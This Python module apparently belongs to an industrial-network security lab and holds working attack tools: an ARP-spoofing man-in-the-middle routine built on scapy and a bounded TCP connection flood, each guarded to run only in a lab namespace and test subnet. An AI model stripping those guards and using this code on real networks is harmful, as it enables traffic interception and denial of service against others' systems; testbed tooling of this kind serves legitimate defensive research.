"""Layer-2/4 attack tools of the lab attacker: ARP-spoofing MITM and a TCP connection flood.

Both refuse to run outside a lab network namespace and outside the lab subnet, so nothing they
send can reach a real network. They are synchronous (run them in a thread from asyncio).
"""

from __future__ import annotations

import contextlib
import ipaddress
import os
import select
import socket
import time
from pathlib import Path
from typing import Any

LAB_NETWORK = ipaddress.ip_network("192.0.2.0/24")
_SYSCTL = Path("/proc/sys/net/ipv4")


class LabGuardError(RuntimeError):
    """The tool was asked to act outside the lab (root namespace or a foreign address)."""


def _lab_namespace() -> str | None:
    """The name of the lab namespace (``/run/netns/otslab-*``) this process lives in, if any."""
    me = os.stat("/proc/self/ns/net")
    netns = Path("/run/netns")
    for entry in netns.glob("otslab-*") if netns.is_dir() else ():
        with contextlib.suppress(OSError):
            st = entry.stat()
            if (st.st_ino, st.st_dev) == (me.st_ino, me.st_dev):
                return entry.name
    return None


def _guard(*ips: str) -> None:
    """Refuse to act in the root network namespace or on addresses outside the lab subnet."""
    if _lab_namespace() is None:
        raise LabGuardError("refusing to run outside a lab network namespace (otslab-*)")
    for ip in ips:
        if ipaddress.ip_address(ip) not in LAB_NETWORK:
            raise LabGuardError(f"refusing to act on {ip}: outside {LAB_NETWORK}")


def _sysctl_set(rel: str, value: str) -> str:
    path = _SYSCTL / rel
    old = path.read_text().strip()
    path.write_text(value)
    return old


def arp_mitm(spec: dict[str, Any]) -> dict[str, Any]:
    """Poison the ARP caches of ``a`` and ``b`` (each ``{"ip", "mac"}``), forward, restore.

    Unsolicited ARP replies ("IP of b is at my MAC" to a, and the other way round) go out every
    ``interval_s`` for ``poison_s`` seconds while this namespace forwards IPv4 (with ICMP
    redirects off, so the victims are not told the short way round). Then, after the victims'
    ARP lock time, correct replies restore both caches and forwarding is switched off again.
    """
    from scapy.config import conf
    from scapy.layers.l2 import ARP, Ether

    iface = str(spec.get("iface", "eth0"))
    my_mac = str(spec["mac"]).lower()
    a, b = spec["a"], spec["b"]
    _guard(a["ip"], b["ip"])
    poison_s = float(spec.get("poison_s", 5.0))
    interval = float(spec.get("interval_s", 0.5))
    restore_n = int(spec.get("restore_count", 5))

    def reply(to: dict[str, str], claim_ip: str, claim_mac: str) -> Any:
        # The Ethernet source is always our own MAC: the switch must not learn a victim's
        # MAC on the attacker's port.
        return Ether(src=my_mac, dst=to["mac"]) / ARP(
            op=2, hwsrc=claim_mac, psrc=claim_ip, hwdst=to["mac"], pdst=to["ip"])

    poison = [reply(a, b["ip"], my_mac), reply(b, a["ip"], my_mac)]
    restore = [reply(a, b["ip"], b["mac"]), reply(b, a["ip"], a["mac"])]
    old: dict[str, str] = {}
    sent_poison = sent_restore = 0
    sock = conf.L2socket(iface=iface)
    try:
        old["ip_forward"] = _sysctl_set("ip_forward", "1")
        for rel in ("conf/all/send_redirects", f"conf/{iface}/send_redirects"):
            old[rel] = _sysctl_set(rel, "0")
        poison_start = time.time()
        deadline = time.monotonic() + poison_s
        while time.monotonic() < deadline:
            for pkt in poison:
                sock.send(pkt)
                sent_poison += 1
            time.sleep(interval)
        poison_end = time.time()
        time.sleep(1.1)  # Linux ignores ARP updates within neigh locktime (1 s) of the last
        restore_start = time.time()
        for _ in range(restore_n):
            for pkt in restore:
                sock.send(pkt)
                sent_restore += 1
            time.sleep(0.2)
        time.sleep(0.5)  # frames still in flight to us are forwarded before we stop
    finally:
        for rel, value in old.items():
            with contextlib.suppress(OSError):
                _sysctl_set(rel, value)
        sock.close()
    return {"poison_start": poison_start, "poison_end": poison_end,
            "restore_start": restore_start, "poison_replies": sent_poison,
            "restore_replies": sent_restore, "attacker_mac": my_mac,
            "victims": [a["ip"], b["ip"]]}


def conn_flood(spec: dict[str, Any]) -> dict[str, Any]:
    """Open ``count`` TCP connections to ``target:port`` spread over ``seconds``, hold, close.

    Plain non-blocking sockets; bounded in count and time. Returns how many were established.
    """
    target, port = str(spec["target"]), int(spec.get("port", 502))
    _guard(target)
    count = min(int(spec.get("count", 300)), 1000)
    seconds = min(float(spec.get("seconds", 3.0)), 30.0)
    hold_s = min(float(spec.get("hold_s", 1.0)), 10.0)
    socks: list[socket.socket] = []
    t0 = time.monotonic()
    try:
        for i in range(count):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            socks.append(sock)
            sock.connect_ex((target, port))
            delay = t0 + (i + 1) * seconds / count - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        end = time.monotonic() + hold_s
        pending = list(socks)
        while pending and time.monotonic() < end:
            _, writable, _ = select.select([], pending, [], max(0.0, end - time.monotonic()))
            pending = [s for s in pending if s not in writable]
        time.sleep(max(0.0, end - time.monotonic()))
        established = 0
        for sock in socks:
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                with contextlib.suppress(OSError):
                    sock.getpeername()
                    established += 1
    finally:
        for sock in socks:
            sock.close()
    return {"attempted": count, "established": established, "target": f"{target}:{port}",
            "spread_s": seconds, "hold_s": hold_s}
